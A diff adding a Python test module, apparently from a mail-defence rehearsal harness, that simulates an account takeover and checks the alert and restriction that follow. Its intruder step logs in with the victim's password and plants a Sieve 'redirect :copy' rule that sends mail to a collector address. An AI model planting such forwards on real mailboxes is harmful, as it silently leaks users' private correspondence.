@@ -1,0 +1,116 @@
+"""`intruder`: somebody in a new country reads and plants a forward; the answer is an alert and a restriction."""
+
+from __future__ import annotations
+
+import time
+
+from sekisho.rehearsal.clients import ImapSession, SmtpSession, compose
+from sekisho.rehearsal.doors import try_imap
+from sekisho.rehearsal.outside import wait_until
+from sekisho.rehearsal.record import mailbox_status
+from sekisho.rehearsal.sieve_client import SieveSession
+from sekisho.rehearsal.stage import Stage
+
+# From the planted forward to the mailbox's new status in our record: report, journal, worker; P2 gives a trip 5 s.
+_ALERTED_WITHIN = 10.0
+# From the new status until the agent has taken the forward out.
+_FROZEN_WITHIN = 10.0
+# Letters to test the forward with, after it should be stopped.
+_TEST_LETTERS = 3
+# A letter from the third party arrives within its first attempt, some tenths of a second.
+_LETTER_WITHIN = 20.0
+
+
+def play_intruder(stage: Stage) -> None:
+    """Plays the whole story; figures and faults end up in `stage.result`."""
+    started = time.monotonic()
+    if not _enter_and_read(stage):
+        return
+    target = f"collector.{stage.run}@{stage.play.target}"
+    _plant(stage, target)
+    seen = wait_until(lambda: mailbox_status(stage.victim.mailbox) != "active", _ALERTED_WITHIN, pause=0.2)
+    status = mailbox_status(stage.victim.mailbox)
+    if seen is None or status != "restricted":
+        stage.fault(f"the mailbox is {status}, not restricted, after a planted forward")
+        return
+    stage.result.seconds_to_alert = time.monotonic() - started
+    stage.teller.say("alerted", seconds=stage.result.seconds_to_alert, status=stage.teller.status_word(status))
+    _test_forward(stage, target)
+    _check_owner(stage)
+
+
+def _enter_and_read(stage: Stage) -> bool:
+    with ImapSession(stage.places.imap, client_address=stage.play.sources[0], device="Outlook") as session:
+        answer = session.login(stage.victim.mailbox, stage.password)
+        if not answer.accepted:
+            stage.fault(f"the intruder could not log in: {answer.text}")
+            return False
+        stage.teller.say("entered")
+        stage.teller.say("has_read", count=session.read())
+    return True
+
+
+def _plant(stage: Stage, target: str) -> None:
+    session = SieveSession(stage.places.sieve, client_address=stage.play.sources[0])
+    try:
+        answers = [
+            session.login(stage.victim.mailbox, stage.password),
+            session.put_script("filters", f'require ["copy"];\r\nredirect :copy "{target}";\r\n'),
+            session.set_active("filters"),
+        ]
+    finally:
+        session.close()
+    refused = [answer.text for answer in answers if not answer.accepted]
+    if refused:
+        stage.fault(f"the forward could not be planted: {refused[0]}")
+    stage.teller.say("planted", target=target)
+
+
+def _active_scripts(stage: Stage) -> list[str]:
+    session = SieveSession(stage.places.sieve, client_address=stage.victim.home)
+    try:
+        session.login(stage.victim.mailbox, stage.password)
+        return [name for name, active in session.scripts().items() if active]
+    finally:
+        session.close()
+
+
+def _test_forward(stage: Stage, target: str) -> None:
+    wait_until(lambda: "filters" not in _active_scripts(stage), _FROZEN_WITHIN, pause=0.3)
+    numbers = [f"{stage.run}-letter-{count}" for count in range(1, _TEST_LETTERS + 1)]
+    for number in numbers:
+        stage.outside.write(number, stage.writers[0], stage.victim.mailbox, "Invoice", "See you on Monday.\n")
+    wait_until(lambda: set(numbers) <= set(stage.letters_in()), _LETTER_WITHIN, pause=0.5)
+    arrived = [number for number in stage.letters_in() if number in numbers]
+    leaked = [number for number in stage.outside.numbers(target) if number in numbers]
+    result = stage.result
+    result.letters_sent, result.letters_arrived, result.letters_leaked = len(numbers), len(arrived), len(leaked)
+    result.letters_lost = len(set(numbers) - set(arrived))
+    if sorted(arrived) != sorted(numbers):
+        stage.fault(f"{len(arrived)} of {len(numbers)} letters are in the owner's mailbox")
+    key = "redirect_runs" if leaked else "redirect_frozen"
+    stage.teller.say(key, sent=len(numbers), leaked=len(leaked))
+    if leaked:
+        result.faults.append(f"{len(leaked)} letters leaked after the restriction")
+
+
+def _check_owner(stage: Stage) -> None:
+    """The owner at home logs in, and writes to somebody who had written to him."""
+    login = try_imap(stage.places, stage.victim.mailbox, stage.password, stage.victim.home)
+    if not login.accepted:
+        stage.teller.say("owner_hindered", answer=login.text)
+        stage.result.faults.append("the owner cannot log in")
+        return
+    number = f"{stage.run}-reply"
+    writer = stage.writers[0]
+    with SmtpSession(stage.places.submission, client_address=stage.victim.home) as session:
+        session.login(stage.victim.mailbox, stage.password)
+        message = compose(number, stage.victim.mailbox, writer, "Re: Invoice", "Thank you.\n")
+        sending = session.send(stage.victim.mailbox, [writer], message)
+    if sending.refusal:
+        stage.teller.say("owner_hindered", answer=f"{sending.refusal.code} {sending.refusal.text}")
+        stage.result.faults.append("the owner cannot send")
+        return
+    if wait_until(lambda: number in stage.outside.numbers(writer), _LETTER_WITHIN, pause=0.5) is None:
+        stage.fault("the owner's answer did not arrive outside")
+    stage.teller.say("owner_unhindered", home=stage.victim.home)
